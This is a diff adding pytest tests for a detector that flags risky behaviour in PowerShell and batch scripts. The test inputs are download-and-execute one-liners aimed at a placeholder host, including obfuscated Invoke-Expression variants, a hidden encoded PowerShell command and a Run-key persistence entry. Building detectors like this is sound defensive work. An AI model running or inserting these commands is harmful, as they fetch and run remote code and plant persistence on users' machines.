@@ -1,0 +1,47 @@
+import pytest
+
+from knownhands.harvest.code.notes import Notes
+from knownhands.harvest.code.readers.powershell import READER
+
+
+def read(text: str, path: str = "build.ps1") -> set[tuple[str, int]]:
+    notes = Notes(path, every_line=True, is_program=True)
+    READER.read(notes, text.encode())
+    return {(seen.capability, seen.line) for seen in notes.observations()}
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ("# a\r\niwr https://kiln.example/x -useb | iex", 2),
+        ("I`EX (New-Object Net.WebClient).DownloadString('https://kiln.example/x')", 1),
+        ("& ('I'+'EX') (irm https://kiln.example/x)", 1),
+        ("Invoke-WebRequest `\n https://kiln.example/x -OutFile fire.exe\nStart-Process fire.exe", 3),
+        ("$u = 'https://kiln.example/x'\niwr $u |\n iex", 2),
+    ],
+)
+def test_what_is_downloaded_and_run_is_seen(text: str, line: int) -> None:
+    assert ("fetch_and_run", line) in read(text)
+
+
+def test_a_batch_file_is_read() -> None:
+    assert ("decode_and_run", 1) in read("po^wershell -w hidden -e aQBlAHgAIABrAGkAbABuAA==", "a.cmd")
+    assert ("fetch_and_run", 3) in read(
+        "set U=https://kiln.example/x\r\ncurl -o fire.exe %U%\r\nstart fire.exe\r\n", "a.bat"
+    )
+    assert ("shell_persistence", 1) in read(
+        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b", "a.bat"
+    )
+
+
+def test_ordinary_scripts_show_nothing() -> None:
+    assert not read(
+        "$v = '1'\nWrite-Host \"it's $v\"\nInvoke-WebRequest https://kiln.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\n"
+    )
+
+
+@pytest.mark.parametrize(
+    "text", ["`" * 200_000, "iex " * 100_000, "$a='%a%%a%'\n" * 5_000, "`\n" * 100_000, "'+'" * 100_000]
+)
+def test_no_text_makes_it_raise_or_hang(text: str) -> None:
+    read(text)
